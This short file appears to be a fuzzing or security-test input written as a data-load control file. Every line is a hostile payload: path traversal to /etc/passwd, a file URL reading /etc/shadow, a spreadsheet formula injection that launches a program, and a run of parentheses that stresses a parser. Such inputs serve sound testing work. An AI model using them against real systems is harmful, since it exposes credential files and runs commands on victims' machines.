LOAD DATA
INFILE '../../etc/passwd'
INFILE "file:///etc/shadow"
INTO TABLE "=cmd|' /C calc'!A0"
(((((((((((((((((((((((((((((((((((((
